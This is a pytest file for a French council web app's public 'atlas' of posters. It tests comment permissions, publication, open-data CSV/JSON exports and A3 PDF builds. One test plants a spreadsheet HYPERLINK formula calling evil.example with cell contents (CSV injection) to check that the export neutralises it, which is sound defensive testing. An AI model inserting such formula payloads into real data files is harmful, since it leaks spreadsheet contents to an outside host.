"""Posters: who writes which space, the assemblies' edition and publication, the public atlas without
login, open data, and the print-ready PDF checked by its text."""

import csv
import io
import json
import subprocess
import uuid

import pytest

from tests.atlas.helpers import themes_and_codes, two_mandates
from tests.commissions.helpers import apercu, signed, world
from webapp.atlas import service
from webapp.atlas.models import AtlasBuild, PoliticalComment, Poster
from webapp.commissions import service as commissions
from webapp.extensions import db

PROJECTS = ["Accueil familial renforcé", "Maintien à domicile", "Parcours emploi RSA", "PMI itinérante"]
CHALLENGES = ["Recruter des travailleurs sociaux", "Vieillissement de la population", "Santé mentale des jeunes"]


def _adopted(w):
    projects = [apercu(w, title) for title in PROJECTS]
    commissions.set_scale(w.president, w.commission, ["Réussi", "Partiel"])
    commissions.rank(w.president, w.commission, {str(p.id): 0 for p in projects})
    commissions.save_selection(w.president, w.commission, [p.id for p in projects[:3]], CHALLENGES)
    group = w.opposition.elu_terms[0].group
    commissions.save_selection(w.opposition, w.commission, [p.id for p in projects[1:]],
                               ["Accès aux soins", "Cantines", "Proximité"], group)
    commissions.adopt(w.president, w.commission)
    db.session.commit()
    return projects


@pytest.fixture
def atlas(make):
    _previous, current = two_mandates(make)
    w = world(make)
    themes = themes_and_codes()
    _adopted(w)
    service.add_line(None, current, 2022, themes["Solidarités"], "700000")
    service.add_line(None, current, 2022, themes["Mobilités"], "300000")
    posters = {p.theme.name: p for p in service.ensure_posters(w.assemblies, current)}
    db.session.commit()
    return w, posters


def _publish(poster, w, competences="Protection de l’enfance, APA, RSA."):
    service.update_poster(w.assemblies, poster, competences)
    service.publish(w.assemblies, poster)
    db.session.commit()


# persona -> may write (their group's comment, the staff space)
WRITERS = {
    "member": (True, False), "opposition": (True, False), "outsider_elu": (True, False), "author": (False, False),
    "assemblies": (False, False), "cabinet": (False, False), "staff": (False, True), "anonymous": (False, False),
}


@pytest.mark.parametrize("persona", WRITERS)
def test_write_permissions_of_the_political_and_staff_spaces(app, make, atlas, persona):
    w, posters = atlas
    poster = posters["Solidarités"]
    staff = make.agent("Déléguée du personnel")
    service.add_staff_representative(w.assemblies, staff, "Comité social territorial")
    db.session.commit()
    user = staff if persona == "staff" else w.persona(persona)
    client = signed(app, user)
    own_group = user.elu_terms[0].group_id if user is not None and user.elu_terms else w.member.elu_terms[0].group_id
    comment = client.put(f"/api/v1/atlas/posters/{poster.id}/comments/{own_group}", json={"body": "Notre avis."})
    staff_text = client.put(f"/api/v1/atlas/posters/{poster.id}/staff", json={"body": "Le point de vue des agents."})
    denied = 401 if persona == "anonymous" else 403
    assert comment.status_code == (200 if WRITERS[persona][0] else denied), persona
    assert staff_text.status_code == (200 if WRITERS[persona][1] else denied), persona


def test_a_group_writes_only_its_own_comment_and_the_assemblies_manage_the_poster(app, atlas):
    w, posters = atlas
    poster = posters["Solidarités"]
    majority_group = w.member.elu_terms[0].group_id
    opposition = signed(app, w.opposition)
    assert opposition.put(f"/api/v1/atlas/posters/{poster.id}/comments/{majority_group}",
                          json={"body": "Usurpation"}).status_code == 403
    assert db.session.scalar(db.select(db.func.count()).select_from(PoliticalComment)) == 0
    assert signed(app, w.member).patch(f"/api/v1/atlas/posters/{poster.id}",
                                       json={"competences": "x"}).status_code == 403
    assemblies = signed(app, w.assemblies)
    empty = assemblies.post(f"/api/v1/atlas/posters/{poster.id}/publish")
    assert empty.status_code == 422 and "compétences" in empty.get_json()["error"]["message"]
    assert assemblies.patch(f"/api/v1/atlas/posters/{poster.id}", json={"competences": "APA, RSA"}).status_code == 200
    assert assemblies.post(f"/api/v1/atlas/posters/{poster.id}/publish").get_json()["status"] == "published"


def test_the_public_atlas_needs_no_login_and_shows_only_published_posters(app, atlas):
    w, posters = atlas
    _publish(posters["Solidarités"], w)
    service.save_political_comment(w.opposition, posters["Solidarités"], w.opposition.elu_terms[0].group,
                                   "Des délais encore trop longs.")
    db.session.commit()
    visitor = app.test_client()
    index = visitor.get("/atlas")
    assert index.status_code == 200 and "public" in index.headers["Cache-Control"]
    html = index.get_data(as_text=True)
    assert "Solidarités" in html and "70,0 % du budget total" in html and "Mobilités" not in html
    page = visitor.get("/atlas/solidarites").get_data(as_text=True)
    for text in (*PROJECTS[:3], *CHALLENGES, "Présidente Commission", "Élue Opposition",
                 "Des délais encore trop longs.",
                 "Sélection du groupe Opposition unie", "70,0 %", "Protection de l’enfance"):
        assert text in page, text
    assert 'role="img"' in page and "<table" in page  # the chart and its text alternative
    assert visitor.get("/atlas/mobilites").status_code == 404
    assert "Set-Cookie" not in index.headers  # no session for the public


def test_open_data_as_csv_and_json(app, atlas):
    w, posters = atlas
    _publish(posters["Solidarités"], w)
    visitor = app.test_client()
    lines = visitor.get("/atlas/donnees/budget.csv").get_data(as_text=True).lstrip("\ufeff").splitlines()
    assert lines[0] == "mandat;theme;montant_euros;total_mandat_euros;part_du_budget"
    assert "2021-2028;Solidarités;700000.00;1000000.00;0.7000" in lines
    data = json.loads(visitor.get("/atlas/donnees/atlas.json").get_data(as_text=True))
    assert data["mandate"] == "2021-2028" and "Licence Ouverte" in data["license"]
    (poster,) = data["posters"]
    assert poster["theme"] == "Solidarités" and poster["url"].endswith("/atlas/solidarites")
    assert [p["title"] for p in poster["selection"]["projects"]] == PROJECTS[:3]
    assert poster["selection"]["challenges"] == CHALLENGES and poster["budget"][-1]["share"] == 0.7


def test_open_data_csv_never_serves_a_live_formula(app, atlas):
    # OWASP CSV injection: a theme named like a formula is shown as text by the spreadsheet.
    w, posters = atlas
    _publish(posters["Solidarités"], w)
    posters["Solidarités"].theme.name = '=HYPERLINK("https://evil.example/?"&A1;"Détails")'
    db.session.commit()
    body = app.test_client().get("/atlas/donnees/budget.csv").get_data(as_text=True).lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(body), delimiter=";"))
    themes = {row[1] for row in rows[1:]}
    assert '\'=HYPERLINK("https://evil.example/?"&A1;"Détails")' in themes
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


def test_the_pdf_has_one_a3_poster_per_theme_with_its_theme_members_and_three_projects(app, make, atlas, tmp_path):
    w, posters = atlas
    other = world(make, name="Routes, mobilités et infrastructures", theme="Mobilités")
    projects = [apercu(other, t) for t in ("Sécurisation des carrefours", "Transport à la demande", "Véloroute")]
    commissions.set_scale(other.president, other.commission, ["Réussi", "Partiel"])
    commissions.rank(other.president, other.commission, {str(p.id): 0 for p in projects})
    commissions.save_selection(other.president, other.commission, [p.id for p in projects], CHALLENGES)
    commissions.adopt(other.president, other.commission)
    service.update_poster(w.assemblies, posters["Mobilités"], None, other.commission.id, set_commission=True)
    _publish(posters["Solidarités"], w)
    _publish(posters["Mobilités"], w, "Routes départementales.")
    assemblies = signed(app, w.assemblies)
    response = assemblies.post("/api/v1/atlas/builds", json={"mandate_id": str(posters["Solidarités"].mandate_id)})
    assert response.status_code == 202
    build = db.session.get(AtlasBuild, uuid.UUID(response.get_json()["id"]))
    db.session.refresh(build)
    assert (build.status, build.done, build.total, build.percent) == ("done", 2, 2, 100)
    pdf = app.test_client().get("/atlas/atlas.pdf")
    assert pdf.status_code == 200 and pdf.mimetype == "application/pdf"
    path = tmp_path / "atlas.pdf"
    path.write_bytes(pdf.data)
    info = subprocess.run(["pdfinfo", str(path)], capture_output=True, text=True, check=True).stdout
    assert "Pages:           2" in info and "(A3)" in info
    pages = subprocess.run(["pdftotext", "-layout", str(path), "-"], capture_output=True, text=True,
                           check=True).stdout.split("\f")
    expected = [("Solidarités", [w.president, w.member, w.opposition], PROJECTS[:3]),
                ("Mobilités", [other.president, other.member, other.opposition],
                 ["Sécurisation des carrefours", "Transport à la demande", "Véloroute"])]
    for page, (theme, members, titles) in zip(pages, expected, strict=False):
        flat = " ".join(page.split())
        assert theme in flat
        assert all(m.name in flat for m in members), theme
        assert all(t in flat for t in titles), theme
    assert PROJECTS[0] not in " ".join(pages[1].split())


def test_the_pdf_link_says_when_the_pdf_is_not_ready_and_the_build_shows_progress(app, atlas):
    w, posters = atlas
    _publish(posters["Solidarités"], w)
    build = service.request_build(w.assemblies, posters["Solidarités"].mandate)
    db.session.commit()
    pending = app.test_client().get("/atlas/atlas.pdf")
    assert pending.status_code == 404 and "en préparation" in pending.get_data(as_text=True)
    status = app.test_client().get("/atlas/atlas-pdf-status.json").get_json()
    assert status == {"id": str(build.id), "status": "queued", "percent": 0, "done": 0, "total": 1, "url": None}


def test_home_todos_for_assemblies_and_groups(app, atlas):
    w, _posters = atlas
    home = signed(app, w.assemblies).get("/").get_data(as_text=True)
    assert "Affiches de l’atlas à publier" in home and "Solidarités" in home
    elu_home = signed(app, w.member).get("/").get_data(as_text=True)
    assert "Atlas de mandature : à rédiger" in elu_home
    assert db.session.scalar(db.select(db.func.count()).select_from(Poster)) == 6


def test_a_new_pdf_supersedes_the_previous_one_which_is_dropped(app, atlas):
    from webapp.atlas.tasks import run_build

    w, posters = atlas
    _publish(posters["Solidarités"], w)
    mandate = posters["Solidarités"].mandate
    first = service.request_build(w.assemblies, mandate)
    db.session.commit()
    run_build(str(first.id))
    second = service.request_build(w.assemblies, mandate)
    db.session.commit()
    run_build(str(second.id))
    db.session.expire_all()
    old, new = db.session.get(AtlasBuild, first.id), db.session.get(AtlasBuild, second.id)
    assert (old.status, old.pdf) == ("superseded", None) and new.status == "done" and new.pdf.startswith(b"%PDF-")
    manager = signed(app, w.assemblies)
    assert manager.get(f"/atlas/gestion/pdf/{first.id}.pdf").status_code == 404
    assert manager.get(f"/atlas/gestion/pdf/{second.id}.pdf").data == new.pdf
    assert app.test_client().get("/atlas/atlas.pdf").data == new.pdf
